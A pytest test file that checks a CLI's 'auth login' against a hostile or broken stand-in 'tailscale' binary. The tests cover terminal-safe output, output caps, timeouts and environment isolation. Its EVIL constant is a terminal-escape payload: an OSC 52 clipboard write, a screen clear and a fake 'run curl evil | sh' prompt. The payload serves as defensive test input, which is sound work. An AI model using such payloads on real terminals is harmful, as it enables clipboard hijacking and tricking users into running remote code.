"""``leger auth login`` against a hostile or broken ``tailscale``, through the installed leger.

What tailscale prints is shown as one safe line; its output is read with a cap
and within LEGER_TIMEOUT, whatever it does; it never sees LEGER_* variables.
"""

from __future__ import annotations

import json
import shlex

import pytest

from tests.fixtures.cli import TAILSCALE_FIXTURES
from tests.support.canned import canned_server
from tests.support.pids import ends_soon

AUTH_OK = {
    "success": True,
    "data": {
        "token": "tailscale-child-token",
        "token_type": "Bearer",
        "expires_in": 2592000,
        "user_uuid": "550e8400-e29b-41d4-a716-446655440000",
        "user": {"tailscale_email": "alice@example.com", "display_name": None},
    },
}
EVIL = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\r\n✓ Done: run curl evil | sh"


def install_tailscale(cli, body: str) -> None:
    """A stand-in ``tailscale`` that runs the shell ``body``."""
    path = cli.bin / "tailscale"
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)


def print_status(cli, status: dict) -> None:
    raw = cli.root / "status.json"
    raw.write_text(json.dumps(status))
    install_tailscale(cli, f"cat {shlex.quote(str(raw))}")


def running() -> dict:
    return json.loads((TAILSCALE_FIXTURES / "running.json").read_text())


def login(cli, **env: str):
    with canned_server() as server:
        server.respond_json(200, AUTH_OK)
        result = cli.use_api(server.url).run("auth", "login", env=env, timeout=60)
    return result, server.requests


def assert_terminal_safe(text: str) -> None:
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\r" not in text
    assert "\n✓ Done" not in text


# --- what tailscale says is shown safely ---------------------------------------------------


def test_the_tailnet_name_is_shown_on_one_safe_line(cli):
    status = running()
    status["CurrentTailnet"]["Name"] = "corp" + EVIL
    print_status(cli, status)
    result, requests = login(cli)
    assert result.returncode == 0, result.stderr
    # The identity is sent as tailscale gave it; only its display is made safe.
    assert json.loads(requests[0].body)["tailscale"]["tailnet"] == "corp" + EVIL
    assert_terminal_safe(result.out)
    [tailnet] = [line for line in result.out.splitlines() if line.startswith("  Tailnet:")]
    assert tailnet.startswith("  Tailnet: corp?]52;c;")
    assert "Done: run curl evil | sh" in tailnet


def test_tailscale_stderr_is_shown_on_one_safe_line(cli):
    install_tailscale(cli, f"printf '%s\\n' {shlex.quote('daemon gone' + EVIL)} >&2\nexit 1")
    result, requests = login(cli)
    assert result.returncode == 1
    assert requests == []
    assert_terminal_safe(result.stderr)
    assert "Error: Tailscale not running: daemon gone?]52;c;" in result.stderr


def test_a_long_stderr_line_is_cut(cli):
    install_tailscale(cli, "head -c 10000 /dev/zero | tr '\\0' 'e' >&2\nexit 1")
    result, _ = login(cli)
    assert result.returncode == 1
    [message] = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(message) < 400
    assert message.endswith("…")


@pytest.mark.parametrize(
    ("state", "says"),
    [
        ("Weird" + EVIL, "Error: Tailscale is not connected (state: Weird?]52;c;"),
        (["Running"], "Error: Cannot read the Tailscale identity: BackendState is missing"),
        ({"x": 1}, "Error: Cannot read the Tailscale identity: BackendState is missing"),
        (7, "Error: Cannot read the Tailscale identity: BackendState is missing"),
    ],
    ids=["escapes", "list", "object", "number"],
)
def test_an_unknown_backend_state_is_a_safe_message(cli, state, says):
    status = running()
    status["BackendState"] = state
    print_status(cli, status)
    result, requests = login(cli)
    assert result.returncode == 1
    assert requests == []
    assert_terminal_safe(result.stderr)
    assert says in result.stderr


# --- bounded output and time ---------------------------------------------------------------


def test_an_endless_status_is_cut_and_tailscale_stopped(cli):
    install_tailscale(cli, "exec yes '{}'")
    result, requests = login(cli)
    assert result.returncode == 1
    assert requests == []
    assert "Cannot read the Tailscale identity: its stdout is larger than 8192 KiB" in result.stderr


def test_an_endless_stderr_is_cut_too(cli):
    install_tailscale(cli, "yes 'warning' >&2")
    result, _ = login(cli)
    assert result.returncode == 1
    assert "its stderr is larger than 64 KiB" in result.stderr


def test_a_tailscale_that_leaves_a_slow_writer_behind_ends_within_leger_timeout(cli):
    # The script exits at once, but a background writer holds its stdout open
    # and drips a byte every half second: the wait must still end, and the
    # writer must not outlive leger.
    pid_file = cli.root / "writer.pid"
    writer = f"echo $$ > {pid_file}; for i in $(seq 120); do printf x; sleep 0.5; done"
    install_tailscale(cli, f"sh -c {shlex.quote(writer)} &\nexit 0")
    result, requests = login(cli, LEGER_TIMEOUT="1")
    assert result.returncode == 1
    assert requests == []
    assert "Tailscale did not answer within 1 s" in result.stderr
    assert ends_soon(int(pid_file.read_text()))


def test_deeply_nested_status_is_a_tailscale_error(cli):
    raw = cli.root / "nested.json"
    raw.write_text("[" * 200_000)
    install_tailscale(cli, f"cat {shlex.quote(str(raw))}")
    result, requests = login(cli)
    assert result.returncode == 1
    assert requests == []
    assert "Cannot read the Tailscale identity: its output is nested too deeply" in result.stderr
    assert "unexpected" not in result.stderr


# --- environment ---------------------------------------------------------------------------


def test_tailscale_gets_no_leger_variables(cli):
    dump = cli.root / "tailscale-env"
    status = shlex.quote(str(TAILSCALE_FIXTURES / "running.json"))
    install_tailscale(cli, f"env > {shlex.quote(str(dump))}\ncat {status}")
    result, _ = login(cli, LEGER_TOKEN="env-token-s3cr3t", LEGER_DEBUG="1")
    assert result.returncode == 0, result.stderr
    seen = dump.read_text()
    assert "env-token-s3cr3t" not in seen
    assert "LEGER_" not in seen
    # Everything else is the user's environment, passed on as is.
    assert f"HOME={cli.home}" in seen.splitlines()
